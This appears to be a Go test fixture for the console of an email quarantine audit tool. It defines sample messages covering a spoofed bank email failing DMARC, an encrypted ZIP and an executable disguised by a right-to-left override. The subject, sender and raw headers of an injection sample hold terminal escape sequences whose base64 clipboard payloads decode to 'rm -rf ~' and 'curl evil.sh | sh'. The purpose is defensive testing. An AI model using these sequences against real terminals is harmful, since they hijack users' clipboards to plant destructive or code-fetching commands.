package console

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"time"

	"mxaudit/analysis/scan"
	"mxaudit/model"
)

// testNow is the frozen clock of every console test.
var testNow = time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)

func at(day, hour, minute int) time.Time {
	return time.Date(2026, 11, day, hour, minute, 0, 0, time.UTC)
}

func passAuth(domain string) *model.Auth {
	return &model.Auth{
		Source: model.SourceLive,
		SPF:    model.SPFResult{Result: model.ResultPass, Domain: domain, IP: "192.0.2.10", Aligned: true, Source: model.SourceLive},
		DKIM: []model.DKIMResult{{Result: model.ResultPass, Domain: domain, Selector: "s1", Algorithm: "rsa-sha256",
			Aligned: true, Source: model.SourceLive}},
		DMARC: model.DMARCResult{Result: model.ResultPass, FromDomain: domain, OrgDomain: domain,
			Policy: model.DispositionReject, Pct: 100, ADKIM: model.AlignRelaxed, ASPF: model.AlignRelaxed,
			Disposition: model.DispositionNone, Record: "v=DMARC1; p=reject", Source: model.SourceLive,
			Reason: "DKIM and SPF pass and are aligned."},
	}
}

// sampleMessages is the fixed quarantine of the console tests: one of
// each kind the operator meets, Japanese text and an escape-injection
// attempt included.
func sampleMessages() []model.Message {
	ppap := model.Message{
		ID: "cur/0002", MessageID: "<ppap@corp.example.jp>",
		From: "山田 太郎 <yamada@corp.example.jp>", FromAddr: "yamada@corp.example.jp", FromDomain: "corp.example.jp",
		ReturnPath: "yamada@corp.example.jp", To: []string{"sales@example.com"},
		Subject: "【重要】お見積書の送付（パスワードは別送いたします）", Date: at(28, 9, 15), Size: 48213,
		Attachments: []model.Attachment{{Filename: "見積書_2026.zip", ContentType: "application/zip", Size: 40112,
			Archive: &model.Archive{Format: "zip", Encrypted: true, Encryption: model.EncryptionZipCrypto, TotalEntries: 2,
				Entries: []model.Entry{
					{Name: "見積書.xlsx", Size: 51200, CompressedSize: 38000, Encrypted: true, Encryption: model.EncryptionZipCrypto},
					{Name: "注意事項.pdf", Size: 1200, CompressedSize: 900, Encrypted: true, Encryption: model.EncryptionZipCrypto},
				}}}},
		Auth: passAuth("corp.example.jp"),
		Verdict: model.Verdict{Attachment: model.AttachmentEncrypted, Auth: model.AuthPass,
			Reasons: []string{"見積書_2026.zip is a password-protected ZIP (ZipCrypto): its content cannot be scanned."}},
		Exception: &model.ExceptionMatch{ID: 12, ApprovedBy: "sato", Expires: time.Date(2027, 3, 1, 0, 0, 0, 0, time.UTC),
			Kinds: []model.ExceptionKind{"encrypted-archive"}},
	}
	spoof := model.Message{
		ID: "cur/0003", MessageID: "<x1@bank.example>",
		From: "Example Bank <security@bank.example>", FromAddr: "security@bank.example", FromDomain: "bank.example",
		ReturnPath: "bounce@mailer.invalid", To: []string{"user@example.com"},
		Subject: "Your account has been suspended", Date: at(27, 23, 2), Size: 5120,
		Auth: &model.Auth{Source: model.SourceLive,
			SPF: model.SPFResult{Result: model.ResultFail, Domain: "mailer.invalid", IP: "203.0.113.66", Source: model.SourceLive,
				Reason: "203.0.113.66 is not allowed by mailer.invalid."},
			DKIM: []model.DKIMResult{{Result: model.ResultPass, Domain: "mailer.invalid", Selector: "k1", Algorithm: "rsa-sha256",
				Source: model.SourceLive, Reason: "good signature"}},
			DMARC: model.DMARCResult{Result: model.ResultFail, FromDomain: "bank.example", OrgDomain: "bank.example",
				Policy: model.DispositionReject, SubdomainPolicy: model.DispositionReject, Pct: 100,
				ADKIM: model.AlignStrict, ASPF: model.AlignRelaxed, Disposition: model.DispositionReject,
				Record: "v=DMARC1; p=reject; adkim=s", Source: model.SourceLive,
				Reason: "Neither SPF nor DKIM passed for a domain aligned with bank.example."}},
		Verdict: model.Verdict{Attachment: model.AttachmentClean, Auth: model.AuthFail,
			Reasons: []string{"DMARC fails for bank.example, which publishes p=reject."}},
	}
	risky := model.Message{
		ID: "cur/0004", From: "Accounts <ap@supplier.example>", FromAddr: "ap@supplier.example", FromDomain: "supplier.example",
		Subject: "Invoice 4411 overdue", Date: at(26, 14, 40), Size: 201344,
		Attachments: []model.Attachment{{Filename: "invoice\u202efdp.exe", ContentType: "application/octet-stream", Size: 190000,
			Risks: []model.Risk{model.RiskExecutable, model.RiskRTLO}}},
		Verdict: model.Verdict{Attachment: model.AttachmentRisky, Auth: model.AuthNone,
			Reasons: []string{"invoice<RLO>fdp.exe is an executable disguised by a right-to-left override."}},
		Auth: &model.Auth{Source: model.SourceHeader,
			SPF:   model.SPFResult{Result: model.ResultSoftFail, Domain: "supplier.example", IP: "198.51.100.7"},
			DMARC: model.DMARCResult{Result: model.ResultNone, FromDomain: "supplier.example"}},
	}
	inject := model.Message{
		ID: "cur/0005", From: "\x1b]52;c;cm0gLXJmIH4=\x07Evil <evil@attacker.example>", FromAddr: "evil@attacker.example",
		FromDomain: "attacker.example",
		Subject:    "Hello\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 world\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
		Date:       at(28, 11, 30), Size: 900,
		Verdict: model.Verdict{Attachment: model.AttachmentClean},
	}
	broken := model.Message{
		ID: "cur/0006", Size: 77, Error: "cannot read message: unexpected EOF",
		Verdict: model.Verdict{Attachment: model.AttachmentError, Reasons: []string{"cannot read message: unexpected EOF"}},
	}
	plain := model.Message{
		ID: "cur/0001", MessageID: "<news@shop.example>",
		From: "Shop News <news@shop.example>", FromAddr: "news@shop.example", FromDomain: "shop.example",
		Subject: "Weekly offers", Date: at(20, 8, 0), Size: 15300, Auth: passAuth("shop.example"),
		Verdict: model.Verdict{Attachment: model.AttachmentClean, Auth: model.AuthPass},
	}
	unaligned := model.Message{
		ID: "cur/0007", From: "鈴木 花子 <hanako@example.co.jp>", FromAddr: "hanako@example.co.jp", FromDomain: "example.co.jp",
		Subject: "会議資料の共有について", Date: time.Date(2025, 3, 4, 10, 0, 0, 0, time.UTC), Size: 3_500_000,
		Attachments: []model.Attachment{{Filename: "資料.docx", ContentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
			Size: 3_400_000}},
		Auth: &model.Auth{Source: model.SourceLive,
			SPF:   model.SPFResult{Result: model.ResultNone, Domain: "example.co.jp", IP: "192.0.2.99"},
			DKIM:  []model.DKIMResult{{Result: model.ResultPass, Domain: "esp.example.net", Selector: "esp"}},
			DMARC: model.DMARCResult{Result: model.ResultNone, FromDomain: "example.co.jp", OrgDomain: "example.co.jp"}},
		Verdict: model.Verdict{Attachment: model.AttachmentClean, Auth: model.AuthNone},
	}
	return []model.Message{plain, ppap, spoof, risky, inject, broken, unaligned}
}

// rawFor is the raw source the tests' Open returns for any message.
func rawFor(id model.MessageID) []byte {
	return []byte(fmt.Sprintf("Received: from mx.sender.example (mx.sender.example [192.0.2.10])\r\n"+
		"\tby mx.example.com with ESMTPS id abc; Fri, 28 Nov 2026 09:15:02 +0900\r\n"+
		"Received: from internal.sender.example by mx.sender.example; Fri, 28 Nov 2026 09:15:01 +0900\r\n"+
		"Subject: =?UTF-8?B?5LuK5pel?= \x1b]52;c;QQ==\x07\x1b[2J\r\n"+
		"X-Source-ID: %s\r\n"+
		"\r\n"+
		"Body line one\r\n\tindented\x07 bell\r\n", id))
}

// testConfig returns a console configuration over msgs with the frozen
// clock; the scan emits everything at once.
func testConfig(msgs []model.Message) Config {
	st := &stub{
		scan: func(ctx context.Context, emit func(model.Message) error, progress func(scan.Progress)) error {
			for i, m := range msgs {
				if err := emit(m); err != nil {
					return err
				}
				progress(scan.Progress{Listed: len(msgs), Analysed: i + 1, Done: true})
			}
			return nil
		},
		open: func(ctx context.Context, id model.MessageID) (io.ReadCloser, error) {
			return io.NopCloser(bytes.NewReader(rawFor(id))), nil
		},
	}
	return Config{
		Title:     "demo",
		Now:       func() time.Time { return testNow },
		NoticeTTL: -1, // runCmd must not wait for the expiry timers
		Source:    st,
		Passwords: st,
		Reports:   st,
	}
}
